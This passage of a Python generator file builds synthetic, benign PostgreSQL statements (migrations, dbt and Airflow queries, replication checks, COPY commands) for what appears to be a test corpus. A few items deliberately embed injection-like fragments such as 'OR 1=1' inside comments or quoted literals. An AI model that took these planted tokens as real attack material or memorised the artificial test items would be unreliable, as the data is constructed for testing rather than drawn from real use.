    @add("cx16_misc_fns", "complex_builtin_funcs")
    def _(r):
        return r.choice(["SELECT num_nulls(%d, NULL, %s), num_nonnulls(NULL, %d)" % (r.randint(1, 9), q(rword(r, 3)), r.randint(1, 9)), "SELECT gen_random_uuid()",
                         "SELECT pg_column_size(%s::text)" % q(r.choice(NOTES)), "SELECT quote_ident(%s), quote_literal(%s), quote_nullable(NULL)" % (q(r.choice(["Order", "select", "kelp yield", "Wheels"])), q(r.choice(PEOPLE))),
                         "SELECT string_agg(DISTINCT x, ', ' ORDER BY x) FROM unnest(ARRAY[%s]) x" % ", ".join(q(c) for c in r.sample(CULTIVARS, 4)),
                         "SELECT split_part(%s, '.', -1)" % q(r.choice(["public.callouts", "analytics.marts.kelp_yield", "a.b.c"])), "SELECT unistr('Ca\\00f1a %s')" % rword(r, 3),
                         "SELECT initcap(%s), reverse(%s)" % (q(r.choice(SPECIES).lower()), q(rword(r, 6))), "SELECT md5(%s), sha256(convert_to(%s, 'UTF8'))" % (q(rword(r, 8)), q(rword(r, 5)))])

    # ---- comments and hints
    @add("cx16_dbt_header", "complex_comments_hints")
    def _(r):
        node = r.choice(["kelp_yield", "stg_kelp_harvest", "fct_landings", "dim_zone"])
        return ('/* {"app": "dbt", "dbt_version": "1.%d.%d", "profile_name": "seaweed", "target_name": "%s", "node_id": "model.seaweed.%s"} */\n'
                'select species, date_trunc(\'week\', harvested_at) as wk, sum(wet_kg) as wet_kg from "analytics"."staging"."stg_kelp_harvest" where harvested_at >= %s group by 1, 2'
                % (r.randint(5, 9), r.randint(0, 4), r.choice(["prod", "dev", "ci"]), node, q(rdate(r, 2024, 2025))))

    @add("cx16_airflow_task_comment", "complex_comments_hints")
    def _(r):
        d = rdate(r, 2024, 2025)
        return ("-- airflow: dag_id=kelp_daily, task_id=%s, run_id=scheduled__%sT00:00:00+00:00\n"
                "INSERT INTO marts.kelp_daily (landed_on, zone, wet_kg) SELECT landed_on, zone, sum(wet_kg) FROM staging.kelp_landings WHERE landed_on = %s GROUP BY 1, 2"
                % (r.choice(["load_landings", "aggregate_daily", "publish_marts"]), d, q(d)))

    @add("cx16_sqlcommenter", "complex_comments_hints")
    def _(r):
        tp = "00-%032x-%016x-01" % (r.getrandbits(128), r.getrandbits(64))
        return ("SELECT \"dives\".* FROM \"dives\" WHERE \"dives\".\"site\" = $1 LIMIT $2 /*action='%s',controller='dives',db_driver='pg',framework='rails',traceparent='%s'*/"
                % (r.choice(["index", "show", "export"]), tp))

    @add("cx16_pg_hint_plan", "complex_comments_hints")
    def _(r):
        return r.choice(['/*+ IndexScan(w "Wheels_CaveId_idx") */ SELECT w."WheelId", w."Variety" FROM "Wheels" AS w WHERE w."CaveId" = %d' % r.randint(1, 14),
                         "/*+ Leading((j b)) HashJoin(j b) */ SELECT b.bout_id, count(*) FROM jams j JOIN bouts b ON b.bout_id = j.bout_id WHERE b.season = %d GROUP BY b.bout_id" % r.randint(2015, 2026),
                         "/*+ SeqScan(effluent_samples) Parallel(effluent_samples 4 hard) */ SELECT outfall, avg(cr_mg_l) FROM effluent_samples GROUP BY outfall"])

    @add("cx16_sqlc_name", "complex_comments_hints")
    def _(r):
        return r.choice(["-- name: GetSplits :many\nSELECT runner_id, control_code, split_s FROM leg_splits WHERE event_id = $1 ORDER BY split_s",
                         "-- name: CreateEntry :one\nINSERT INTO event_entries (event_id, runner_name, club, si_card) VALUES ($1, $2, $3, $4) RETURNING entry_id",
                         "-- name: DeleteHide :exec\nDELETE FROM hides WHERE hide_id = $1",
                         "-- name: CountCallouts :one\n-- counts callouts for the dashboard tile\nSELECT count(*) FROM callouts WHERE called_out_at >= $1"])

    @add("cx16_hibernate_comment", "complex_comments_hints")
    def _(r):
        return r.choice(["/* dynamic native SQL query */ select b.bout_id, b.home_team from bouts b where b.season = %d" % r.randint(2015, 2026),
                         "/* <criteria> */ select s1_0.skater_id,s1_0.derby_name from skaters s1_0 where s1_0.derby_name like $1 escape ''",
                         "/* update com.derby.Roster */ update roster_slots set jersey_no=$1 where slot_id=$2"])

    @add("cx16_comment_sql_words", "complex_comments_hints")
    def _(r):
        return r.choice(["SELECT cask_id, angel_share_pct FROM casks -- DROP the old view after migration; union of both rickhouses below\nWHERE rickhouse = %s" % q(r.choice(["Rickhouse C", "Warehouse 7"])),
                         "-- TODO: OR 1=1 was a debugging hack, removed in #4471\nSELECT lot_no, cfu_per_g FROM vibrio_tests WHERE tested_on = current_date",
                         "SELECT control_code /* , description -- removed: ' quotes broke CSV */ FROM controls WHERE event_id = %d" % r.randint(1, 3000),
                         "/* select * from users; -- example only */ SELECT count(*) FROM sheet_bookings WHERE sheet = %s" % q(r.choice("ABCDE")),
                         "SELECT hide_id, grade FROM hides WHERE grade <> 'C' -- grade C: 'reject' (see SOP; DELETE not allowed)\nORDER BY hide_id"])

    @add("cx16_nested_block_comment", "complex_comments_hints")
    def _(r):
        return ("/* report: %s\n   /* nested: kept from the old version */\n   owner: ops */\nSELECT team_name, count(*) FROM callouts c JOIN rescue_teams t USING (team_id) GROUP BY team_name ORDER BY 2 DESC"
                % r.choice(["callouts per team", "monthly summary", "board pack"]))

    # ---- CTEs and window functions
    @add("cx16_cte_named_window", "complex_cte_window")
    def _(r):
        return ("WITH monthly AS (SELECT date_trunc('month', run_date) AS m, cultivar, sum(oil_ml) AS ml FROM distillation_runs WHERE run_date >= %s GROUP BY 1, 2) "
                "SELECT m, cultivar, ml, sum(ml) OVER w AS running, ml - lag(ml) OVER w AS delta FROM monthly WINDOW w AS (PARTITION BY cultivar ORDER BY m) ORDER BY cultivar, m" % q(rdate(r, 2020, 2024)))

    @add("cx16_recursive_teams", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE chain AS (SELECT team_id, parent_team_id, team_name, 1 AS depth FROM rescue_teams WHERE team_name = %s "
                "UNION ALL SELECT t.team_id, t.parent_team_id, t.team_name, c.depth + 1 FROM rescue_teams t JOIN chain c ON t.parent_team_id = c.team_id WHERE c.depth < %d) "
                "SELECT * FROM chain ORDER BY depth, team_name" % (q(r.choice(TEAMS)), r.randint(3, 8)))

    @add("cx16_grouping_report", "complex_cte_window")
    def _(r):
        kind_ = r.choice(["GROUPING SETS ((lease_area, grade), (grade), ())", "CUBE (lease_area, grade)", "ROLLUP (lease_area, grade)"])
        return ("SELECT lease_area, grade, GROUPING(lease_area, grade) AS g, sum(dozens) FROM oyster_harvests WHERE harvested_on BETWEEN %s AND %s GROUP BY %s ORDER BY g, lease_area, grade"
                % (q(rdate(r, 2023, 2024)), q(rdate(r, 2025, 2025)), kind_))

    @add("cx16_lateral_topn", "complex_cte_window")
    def _(r):
        return ("SELECT c.course, top.runner_id, top.total_s FROM (SELECT DISTINCT course FROM results WHERE event_id = %d) c "
                "CROSS JOIN LATERAL (SELECT runner_id, total_s FROM results r WHERE r.event_id = %d AND r.course = c.course ORDER BY total_s LIMIT %d) top"
                % ((lambda e: (e, e, r.randint(3, 10)))(r.randint(1, 3000))))

    @add("cx16_window_frames", "complex_cte_window")
    def _(r):
        return ("SELECT skater_id, called_at, ntile(%d) OVER w AS bucket, cume_dist() OVER w AS cd, count(*) OVER (w RANGE BETWEEN interval '%d minutes' PRECEDING AND CURRENT ROW) AS recent "
                "FROM penalties WHERE bout_id = %d WINDOW w AS (PARTITION BY skater_id ORDER BY called_at)" % (r.randint(2, 5), r.randint(2, 15), r.randint(1, 5000)))

    @add("cx16_cte_materialized", "complex_cte_window")
    def _(r):
        return ("WITH hot AS MATERIALIZED (SELECT \"CaveId\", avg(\"RelHumidity\") AS rh FROM \"CaveReadings\" WHERE \"ReadAt\" > now() - interval '%d hours' GROUP BY 1), "
                "cold AS NOT MATERIALIZED (SELECT \"CaveId\" FROM \"Caves\" WHERE \"TargetTempC\" < %d) SELECT h.* FROM hot h JOIN cold USING (\"CaveId\") WHERE h.rh > %d"
                % (r.randint(1, 72), r.randint(8, 14), r.randint(85, 98)))

    # ---- query builders, data tools
    @add("cx16_kysely", "complex_query_builder")
    def _(r):
        n = r.randint(1, 5)
        return r.choice(['select "panel_id", "commission_id" from "panels" where "commission_id" = $1 and "status" in (%s) order by "panel_id" limit $%d' % (params(n, 2), n + 2),
                         'update "commissions" set "status" = $1, "quote_eur" = $2 where "id" = $3 returning "id"',
                         'select "tesserae"."colour_hex", count("tesserae"."id") as "n" from "tesserae" group by "tesserae"."colour_hex" having count("tesserae"."id") > $1'])

    @add("cx16_squirrel", "complex_query_builder")
    def _(r):
        n = r.randint(1, 6)
        return r.choice(["SELECT control_code, description FROM controls WHERE event_id = $1 AND control_code IN (%s)" % params(n, 2),
                         "INSERT INTO leg_splits (runner_id,control_code,split_s) VALUES (%s)" % params(3), "UPDATE results SET total_s = $1, status = $2 WHERE runner_id = $3 AND event_id = $4"])

    @add("cx16_slonik", "complex_query_builder")
    def _(r):
        return r.choice(["SELECT id, email FROM \"User\" WHERE id = ANY($1::text[])", "SELECT batch, \"mixedAt\" FROM \"ChemistryBatch\" WHERE chemical = $1 AND \"mixedAt\" > $2::timestamptz",
                         "INSERT INTO \"Scan\" (id, \"rollId\", meta) SELECT * FROM unnest($1::text[], $2::text[], $3::jsonb[])"])

    @add("cx16_airflow_rendered", "complex_query_builder")
    def _(r):
        d = rdate(r, 2024, 2025)
        return r.choice(["INSERT INTO marts.kelp_daily SELECT landed_on, zone, sum(wet_kg) FROM staging.kelp_landings WHERE landed_on = %s GROUP BY 1, 2" % q(d),
                         "DELETE FROM staging.kelp_landings WHERE landed_on = %s" % q(d),
                         "SELECT count(*) FROM raw.kelp_landings WHERE landed_on BETWEEN %s AND %s" % (q(d), q(d)),
                         "ANALYZE staging.kelp_landings"])

    @add("cx16_dbt_compiled", "complex_query_builder")
    def _(r):
        return r.choice(['with source as (select * from "analytics"."raw"."kelp_harvest"), renamed as (select id as harvest_id, species, wet_kg, harvested_at from source) select * from renamed',
                         'select species, count(*) as n from "analytics"."staging"."stg_kelp_harvest" where wet_kg is null group by species having count(*) > %d' % r.randint(0, 5),
                         'select count(*) as failures, count(*) != 0 as should_warn, count(*) != 0 as should_error from (select harvest_id from "analytics"."staging"."stg_kelp_harvest" where harvest_id is null) dbt_internal_test'])

    @add("cx16_arel", "complex_query_builder")
    def _(r):
        return ('SELECT "dives"."site", COUNT("dives"."id") AS "count_id" FROM "dives" WHERE "dives"."started_at" >= %s GROUP BY "dives"."site" HAVING (COUNT("dives"."id") > %d) ORDER BY "count_id" DESC'
                % (q(rts(r, 2023, 2025)), r.randint(1, 20)))

    # ---- migrations
    @add("cx16_gorm_automigrate", "complex_migration_script")
    def _(r):
        return r.choice(['CREATE TABLE "barrels" ("id" bigserial,"created_at" timestamptz,"updated_at" timestamptz,"deleted_at" timestamptz,"stave_oak" text,"char_level" bigint,"cooper" text,PRIMARY KEY ("id"))',
                         'CREATE INDEX IF NOT EXISTS "idx_barrels_deleted_at" ON "barrels" ("deleted_at")', 'ALTER TABLE "casks" ADD "angel_share_pct" decimal(5,2)',
                         "SELECT count(*) FROM information_schema.tables WHERE table_schema = CURRENT_SCHEMA() AND table_name = $1 AND table_type = $2"])

    @add("cx16_efcore_migration", "complex_migration_script")
    def _(r):
        return r.choice(['CREATE TABLE "Wheels" ("WheelId" integer GENERATED BY DEFAULT AS IDENTITY, "Variety" text NOT NULL, "RindType" text NULL, "CaveId" integer NOT NULL, CONSTRAINT "PK_Wheels" PRIMARY KEY ("WheelId"))',
                         "INSERT INTO \"__EFMigrationsHistory\" (\"MigrationId\", \"ProductVersion\") VALUES ('%s_%s', '8.0.%d')" % (mig_stamp(r), r.choice(["AddRindType", "CaveReadings", "TurnSchedule"]), r.randint(1, 11)),
                         'CREATE INDEX "IX_Wheels_CaveId" ON "Wheels" ("CaveId")', 'ALTER TABLE "Wheels" ADD "TurnedAt" timestamp with time zone NULL'])

    @add("cx16_ecto_migration", "complex_migration_script")
    def _(r):
        return r.choice(['CREATE TABLE "brine_readings" ("id" bigserial, "pan_no" integer NOT NULL, "degree" numeric, "read_on" date, "inserted_at" timestamp(0) NOT NULL, "updated_at" timestamp(0) NOT NULL, PRIMARY KEY ("id"))',
                         'INSERT INTO "schema_migrations" ("version","inserted_at") VALUES ($1,$2)', 'CREATE UNIQUE INDEX "fleur_de_sel_lots_lot_index" ON "fleur_de_sel_lots" ("lot")',
                         'SELECT s0."version"::bigint FROM "schema_migrations" AS s0'])

    @add("cx16_laravel_migration", "complex_migration_script")
    def _(r):
        return r.choice(['create table "tesserae" ("id" bigserial not null primary key, "material" varchar(255) not null, "colour_hex" varchar(7) not null, "stock_kg" numeric(8, 2) not null default \'0\', "created_at" timestamp(0) without time zone null, "updated_at" timestamp(0) without time zone null)',
                         'insert into "migrations" ("migration", "batch") values ($1, $2)', 'alter table "commissions" add column "quote_eur" numeric(10, 2) null',
                         'alter table "panels" add constraint "panels_commission_id_foreign" foreign key ("commission_id") references "commissions" ("id") on delete cascade'])

    @add("cx16_prisma_migrate", "complex_migration_script")
    def _(r):
        return r.choice(['-- CreateTable\nCREATE TABLE "FilmRoll" (\n    "id" TEXT NOT NULL,\n    "stock" TEXT NOT NULL,\n    "developer" TEXT,\n    "pushStops" INTEGER NOT NULL DEFAULT 0,\n    "createdAt" TIMESTAMP(3) NOT NULL DEFAULT CURRENT_TIMESTAMP,\n\n    CONSTRAINT "FilmRoll_pkey" PRIMARY KEY ("id")\n)',
                         '-- CreateIndex\nCREATE UNIQUE INDEX "User_email_key" ON "User"("email")',
                         '-- AddForeignKey\nALTER TABLE "Scan" ADD CONSTRAINT "Scan_rollId_fkey" FOREIGN KEY ("rollId") REFERENCES "FilmRoll"("id") ON DELETE RESTRICT ON UPDATE CASCADE'])

    @add("cx16_sqlx_migrate", "complex_migration_script")
    def _(r):
        return r.choice(["CREATE TABLE IF NOT EXISTS _sqlx_migrations (version BIGINT PRIMARY KEY, description TEXT NOT NULL, installed_on TIMESTAMPTZ NOT NULL DEFAULT now(), success BOOLEAN NOT NULL, checksum BYTEA NOT NULL, execution_time BIGINT NOT NULL)",
                         "INSERT INTO _sqlx_migrations ( version, description, success, checksum, execution_time ) VALUES ( $1, $2, TRUE, $3, -1 )",
                         "SELECT version, checksum FROM _sqlx_migrations ORDER BY version", "UPDATE _sqlx_migrations SET execution_time = $1 WHERE version = $2"])

    @add("cx16_liquibase_flyway", "complex_migration_script")
    def _(r):
        return r.choice(["--liquibase formatted sql\n--changeset %s:%d\nALTER TABLE hides ADD COLUMN grade_note text" % (r.choice(["rui", "dagny", "nadia"]), r.randint(1, 80)),
                         "INSERT INTO \"flyway_schema_history\" (\"installed_rank\", \"version\", \"description\", \"type\", \"script\", \"checksum\", \"installed_by\", \"execution_time\", \"success\") VALUES (%d, '%d', 'add drum schedule', 'SQL', 'V%d__add_drum_schedule.sql', %d, 'flyway', %d, true)"
                         % ((lambda v: (v, v, v, r.randint(-2 ** 31, 2 ** 31 - 1), r.randint(5, 900)))(r.randint(2, 60))),
                         "SELECT COUNT(*) FROM public.databasechangeloglock", "UPDATE public.databasechangeloglock SET LOCKED = TRUE, LOCKEDBY = '%s (10.0.3.%d)', LOCKGRANTED = NOW() WHERE ID = 1 AND LOCKED = FALSE" % (rword(r, 6), r.randint(2, 250))])

    @add("cx16_dbt_swap", "complex_migration_script")
    def _(r):
        m = r.choice(["kelp_yield", "fct_landings", "dim_zone"])
        return r.choice(['alter table "analytics"."marts"."%s" rename to "%s__dbt_backup"' % (m, m), 'alter table "analytics"."marts"."%s__dbt_tmp" rename to "%s"' % (m, m),
                         'drop table if exists "analytics"."marts"."%s__dbt_backup" cascade' % m])

    @add("cx16_partman_setup", "complex_migration_script")
    def _(r):
        return r.choice(["CREATE SCHEMA IF NOT EXISTS partman", "CREATE EXTENSION IF NOT EXISTS pg_partman SCHEMA partman",
                         "CREATE TABLE public.radio_log (id bigint GENERATED ALWAYS AS IDENTITY, called_out_at timestamptz NOT NULL, msg text) PARTITION BY RANGE (called_out_at)",
                         "SELECT partman.create_parent(p_parent_table := 'public.radio_log', p_control := 'called_out_at', p_interval := '%s')" % r.choice(["1 day", "1 week", "1 month"]),
                         "UPDATE partman.part_config SET retention = '%d months', retention_keep_table = true WHERE parent_table = 'public.radio_log'" % r.randint(3, 36)])

    # ---- reports
    @add("cx16_union_report", "complex_union_report")
    def _(r):
        d = q(rdate(r, 2024, 2025))
        return r.choice(["SELECT 'casks' AS src, count(*) FROM casks WHERE filled_on >= %s UNION ALL SELECT 'barrels', count(*) FROM barrels WHERE created_at >= %s" % (d, d),
                         "SELECT lease_code FROM harvest_closures WHERE lifted_at IS NULL EXCEPT SELECT lease_area FROM oyster_harvests WHERE harvested_on >= %s" % d,
                         "SELECT diver_id FROM certifications WHERE agency = 'PADI' INTERSECT SELECT diver_id FROM dives WHERE started_at >= %s" % d,
                         "SELECT zone, wet_kg FROM marts.kelp_daily WHERE landed_on = %s UNION ALL VALUES ('total', (SELECT sum(wet_kg) FROM marts.kelp_daily WHERE landed_on = %s))" % (d, d)])

    @add("cx16_union_sources", "complex_union_report")
    def _(r):
        return ("(SELECT 'callout' AS kind, called_out_at AS at, grid_ref AS ref FROM callouts ORDER BY called_out_at DESC LIMIT %d) UNION ALL "
                "(SELECT 'radio', logged_at, msg FROM radio_log ORDER BY logged_at DESC LIMIT %d) ORDER BY at DESC" % (r.randint(5, 20), r.randint(5, 20)))

    # ---- batches
    @add("cx16_batch_values", "complex_batch_insert")
    def _(r):
        k = r.randint(2, 5)
        return "INSERT INTO oyster_harvests (lease_area, grade, dozens, harvested_on) VALUES " + ", ".join(
            "(%s, %s, %d, %s)" % (q(r.choice(["TB-3", "TB-4", "HK-1", "Pt Reyes N"])), q(r.choice(["A", "B", "petite"])), r.randint(10, 900), q(rdate(r, 2024, 2025))) for _ in range(k))

    @add("cx16_batch_unnest", "complex_batch_insert")
    def _(r):
        return r.choice(["INSERT INTO brine_readings (pan_no, degree, read_on) SELECT * FROM unnest($1::int[], $2::numeric[], $3::date[])",
                         "INSERT INTO leg_splits (runner_id, control_code, split_s) SELECT * FROM unnest(ARRAY[%s], ARRAY[%s], ARRAY[%s])" % (ids(r, 3, 900), ids(r, 3, 199), ids(r, 3, 600))])

    @add("cx16_batch_kafka_upsert", "complex_batch_insert")
    def _(r):
        k = r.randint(2, 4)
        return ('INSERT INTO "seaweed_lots" ("lot_id","species","wet_kg","landed_at") VALUES %s ON CONFLICT ("lot_id") DO UPDATE SET "species"=EXCLUDED."species","wet_kg"=EXCLUDED."wet_kg","landed_at"=EXCLUDED."landed_at"'
                % ",".join("(%d,%s,%d.%d,%s)" % (r.randint(1, 99999), q(r.choice(SPECIES)), r.randint(1, 900), r.randint(0, 9), q(rts(r))) for _ in range(k)))

    # ---- maintenance, monitoring, replication
    @add("cx16_partman_maintenance", "complex_maintenance_admin")
    def _(r):
        return r.choice(["CALL partman.run_maintenance_proc()", "SELECT partman.run_maintenance('public.radio_log', p_analyze := false)",
                         "SELECT partition_schemaname, partition_tablename FROM partman.show_partitions('public.radio_log', 'DESC') LIMIT %d" % r.randint(1, 10),
                         "SELECT partman.check_default(p_exact_count := true)"])

    @add("cx16_replication_monitor", "complex_maintenance_admin")
    def _(r):
        return r.choice(["SELECT application_name, state, pg_wal_lsn_diff(pg_current_wal_lsn(), replay_lsn) AS lag_bytes FROM pg_stat_replication",
                         "SELECT slot_name, active, pg_size_pretty(pg_wal_lsn_diff(pg_current_wal_lsn(), restart_lsn)) AS retained FROM pg_replication_slots WHERE slot_type = 'logical'",
                         "SELECT pubname, schemaname, tablename FROM pg_publication_tables WHERE pubname = %s" % q(r.choice(["rescue_pub", "dbz_publication", "kelp_cdc"])),
                         "SELECT subname, received_lsn, latest_end_time FROM pg_stat_subscription", "ALTER PUBLICATION rescue_pub ADD TABLE %s" % r.choice(RELNAMES),
                         "SELECT pg_replication_origin_progress(%s, true)" % q("pg_%d" % r.randint(16384, 99999))])

    @add("cx16_vacuum_progress", "complex_maintenance_admin")
    def _(r):
        return r.choice(["VACUUM (ANALYZE, VERBOSE false) %s" % r.choice(RELNAMES), "SELECT relid::regclass, phase, heap_blks_scanned, heap_blks_total FROM pg_stat_progress_vacuum",
                         "SELECT relid::regclass, command, bytes_processed FROM pg_stat_progress_copy", "REINDEX (CONCURRENTLY) TABLE %s" % r.choice(RELNAMES),
                         "SELECT relname, n_dead_tup, last_autovacuum FROM pg_stat_user_tables WHERE n_dead_tup > %d ORDER BY n_dead_tup DESC" % r.randint(1000, 100000)])

    @add("cx16_debezium_heartbeat", "complex_maintenance_admin")
    def _(r):
        return r.choice(["INSERT INTO debezium_heartbeat (id, ts) VALUES (1, now()) ON CONFLICT (id) DO UPDATE SET ts = EXCLUDED.ts",
                         "SELECT id, type, data FROM debezium_signal ORDER BY id DESC LIMIT %d" % r.randint(5, 50),
                         "INSERT INTO debezium_signal (id, type, data) VALUES (%s, 'execute-snapshot', '{\"data-collections\": [\"public.%s\"], \"type\": \"incremental\"}')" % (q(typed_value(r, "uuid")[0]), r.choice(RELNAMES))])

    # ---- transactions
    @add("cx16_tx_batches", "complex_transactions")
    def _(r):
        return r.choice(["BEGIN ISOLATION LEVEL REPEATABLE READ", "SET LOCAL lock_timeout = '%ds'" % r.randint(1, 10), "SAVEPOINT cask_%d" % r.randint(1, 99),
                         "RELEASE SAVEPOINT cask_%d" % r.randint(1, 99), "ROLLBACK TO SAVEPOINT drum_%d" % r.randint(1, 99), "COMMIT AND NO CHAIN", "START TRANSACTION READ ONLY, DEFERRABLE",
                         "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "PREPARE TRANSACTION 'kelp_%d'" % r.randint(1, 999)])

    @add("cx16_tx_script", "complex_transactions")
    def _(r):
        b, n = r.randint(1, 9000), r.randint(1, 40)
        return ("BEGIN; UPDATE barrels SET char_level = %d WHERE id = %d; INSERT INTO cooper_notes (barrel_id, author, body) VALUES (%d, %s, %s); COMMIT"
                % (r.randint(1, 4), b, b, q(r.choice(PEOPLE)), q(r.choice(NOTES)))) if r.random() < 0.5 else (
                "BEGIN; SET LOCAL app.current_team = '%d'; SELECT callout_id FROM callouts WHERE team_id = %d FOR UPDATE SKIP LOCKED; COMMIT" % (n, n))

    # ---- COPY
    @add("cx16_copy_io", "complex_copy_stdin")
    def _(r):
        return r.choice(['COPY "CaveReadings" ("SensorId", "ReadAt", "RelHumidity") FROM STDIN (FORMAT BINARY)',
                         "COPY staging.kelp_landings FROM STDIN WITH (FORMAT csv, HEADER true, DELIMITER ',')",
                         "COPY (SELECT lot_no, cfu_per_g FROM vibrio_tests WHERE tested_on >= %s) TO STDOUT WITH (FORMAT csv, HEADER)" % q(rdate(r, 2024, 2025)),
                         "COPY event_entries (event_id, runner_name, club, si_card) FROM STDIN WITH (FORMAT text, NULL '\\N')",
                         "COPY (SELECT * FROM results WHERE event_id = %d ORDER BY total_s) TO STDOUT (FORMAT csv, FORCE_QUOTE (course))" % r.randint(1, 3000)])

    # ---- single DDL
    @add("cx16_ddl_single", "complex_ddl_migration")
    def _(r):
        return r.choice(["ALTER TABLE hides ADD COLUMN IF NOT EXISTS tanned_on date", "CREATE INDEX CONCURRENTLY IF NOT EXISTS penalties_bout_idx ON penalties (bout_id, called_at)",
                         "COMMENT ON COLUMN casks.angel_share_pct IS %s" % q(r.choice(["percent lost per year; it's an estimate", "see SOP-12 (don't edit)", "-- legacy"])),
                         "CREATE PUBLICATION %s FOR TABLE callouts, casualty_reports WITH (publish = 'insert, update')" % r.choice(["rescue_pub", "rescue_eu", "rescue_audit"]),
                         "ALTER TABLE \"Wheels\" ALTER COLUMN \"RindType\" SET DEFAULT 'natural'", "DROP INDEX CONCURRENTLY IF EXISTS %s_idx" % rword(r, 6),
                         "ALTER TABLE oyster_harvests ADD CONSTRAINT dozens_positive CHECK (dozens > 0) NOT VALID"])

    # ---- the smaller families
    @add("cx16_introspection", "complex_orm_introspection")
    def _(r):
        t = r.choice(RELNAMES + ["Wheels", "FilmRoll", "barrels", "tesserae"])
        return r.choice(["SELECT EXISTS (SELECT 1 FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid=c.relnamespace WHERE n.nspname='public' AND c.relname=%s)" % q(t),
                         "select * from information_schema.tables where table_catalog = $1 and table_schema = $2 and table_name = %s and table_type = 'BASE TABLE'" % q(t),
                         "SELECT a.attname, format_type(a.atttypid, a.atttypmod) FROM pg_attribute a WHERE a.attrelid = %s::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum" % q('"%s"' % t),
                         "SELECT indexname, indexdef FROM pg_indexes WHERE tablename = %s" % q(t)])

    @add("cx16_parameterized", "complex_parameterized")
    def _(r):
        return r.choice(["SELECT id, callsign FROM rescue_volunteers WHERE callsign = $1 AND pass_argon2 = crypt($2, pass_argon2)",
                         "UPDATE cooperage_users SET pw_hash = $1 WHERE login = $2 AND pw_hash = $3", "SELECT * FROM \"User\" WHERE email = $1 LIMIT $2",
                         "DELETE FROM \"Session\" WHERE \"sessionToken\" = $1 RETURNING \"userId\""])

    @add("cx16_plpgsql_body", "complex_plpgsql_body")
    def _(r):
        return r.choice(["DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'rind_kind') THEN CREATE TYPE rind_kind AS ENUM ('natural', 'washed', 'bloomy'); END IF; END $$",
                         "CREATE OR REPLACE FUNCTION touch_updated_at() RETURNS trigger LANGUAGE plpgsql AS $fn$ BEGIN NEW.updated_at := now(); RETURN NEW; END $fn$",
                         "CREATE OR REPLACE FUNCTION ml_per_kg(oil numeric, charge numeric) RETURNS numeric LANGUAGE sql IMMUTABLE AS $$ SELECT round(oil / nullif(charge, 0), 2) $$",
                         "CREATE OR REPLACE PROCEDURE archive_callouts(before date) LANGUAGE plpgsql AS $p$ BEGIN DELETE FROM callouts WHERE called_out_at < before; COMMIT; END $p$",
                         "DO $d$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables WHERE schemaname = 'staging' LOOP EXECUTE format('ANALYZE staging.%I', r.tablename); END LOOP; END $d$"])

    @add("cx16_search", "complex_search_complex")
    def _(r):
        w = q(r.choice(["washed rind", "union square", "don't panic", "drop -zone", "'quoted' term", "or 1=1"]))
        return "SELECT wheel_id, ts_rank(search_tsv, query) AS rank FROM wheel_notes, websearch_to_tsquery('english', %s) query WHERE search_tsv @@ query ORDER BY rank DESC LIMIT %d" % (w, r.choice([10, 20]))
    return G


# ---------------------------------------------------------------- regression-test-style statements (core suites, written for this file)
REGRESS_FIXED = [
 ("publication", "CREATE PUBLICATION testpub16_default"), ("publication", "ALTER PUBLICATION testpub16_default SET (publish = 'insert, update, delete')"),
 ("publication", "CREATE PUBLICATION testpub16_ins_trunct WITH (publish = 'insert, truncate')"), ("publication", "CREATE PUBLICATION testpub16_foralltables FOR ALL TABLES WITH (publish = 'insert')"),
 ("publication", "CREATE PUBLICATION testpub16_forschema FOR TABLES IN SCHEMA pub_test16"), ("publication", "CREATE PUBLICATION testpub16_rf FOR TABLE testpub16_tbl1 WHERE (a > 5)"),
 ("publication", "CREATE PUBLICATION testpub16_cols FOR TABLE testpub16_tbl5 (a, d)"), ("publication", "ALTER PUBLICATION testpub16_default ADD TABLE testpub16_tbl2, testpub16_tbl3"),
 ("publication", "ALTER PUBLICATION testpub16_default DROP TABLE testpub16_tbl3"), ("publication", "ALTER PUBLICATION testpub16_default SET TABLES IN SCHEMA pub_test16, public"),
 ("publication", "ALTER PUBLICATION testpub16_default RENAME TO testpub16_foo"), ("publication", "ALTER PUBLICATION testpub16_foo OWNER TO regress_publication_user2"),
 ("publication", "DROP PUBLICATION IF EXISTS testpub16_foo, testpub16_rf CASCADE"), ("publication", "SELECT pubname, puballtables FROM pg_publication ORDER BY 1"),
 ("publication", "CREATE PUBLICATION testpub16_viaroot FOR TABLE testpub16_parted WITH (publish_via_partition_root = true)"),
 ("subscription", "CREATE SUBSCRIPTION regress_testsub16 CONNECTION 'dbname=regress_doesnotexist' PUBLICATION testpub WITH (connect = false)"),
 ("subscription", "ALTER SUBSCRIPTION regress_testsub16 SET (slot_name = NONE)"), ("subscription", "ALTER SUBSCRIPTION regress_testsub16 CONNECTION 'dbname=regress_doesnotexist2'"),
 ("subscription", "ALTER SUBSCRIPTION regress_testsub16 SET PUBLICATION testpub2, testpub3 WITH (refresh = false)"), ("subscription", "ALTER SUBSCRIPTION regress_testsub16 DISABLE"),
 ("subscription", "ALTER SUBSCRIPTION regress_testsub16 SET (streaming = true, binary = true)"), ("subscription", "ALTER SUBSCRIPTION regress_testsub16 SKIP (lsn = '0/12345')"),
 ("subscription", "DROP SUBSCRIPTION IF EXISTS regress_testsub16"), ("subscription", "CREATE SUBSCRIPTION regress_testsub16b CONNECTION 'dbname=regress_doesnotexist' PUBLICATION testpub WITH (connect = false, two_phase = true, disable_on_error = true)"),
 ("partition_prune", "CREATE TABLE lp16 (a char) PARTITION BY LIST (a)"), ("partition_prune", "CREATE TABLE lp16_ad PARTITION OF lp16 FOR VALUES IN ('a', 'd')"),
 ("partition_prune", "CREATE TABLE lp16_null PARTITION OF lp16 FOR VALUES IN (NULL)"), ("partition_prune", "CREATE TABLE lp16_default PARTITION OF lp16 DEFAULT"),
 ("partition_prune", "EXPLAIN (COSTS OFF) SELECT * FROM lp16 WHERE a = 'a'"), ("partition_prune", "EXPLAIN (COSTS OFF) SELECT * FROM lp16 WHERE a IS NOT NULL AND (a = 'a' OR a = 'c')"),
 ("partition_prune", "CREATE TABLE rlp16 (a int, b varchar) PARTITION BY RANGE (a)"), ("partition_prune", "CREATE TABLE rlp16_1 PARTITION OF rlp16 FOR VALUES FROM (MINVALUE) TO (1)"),
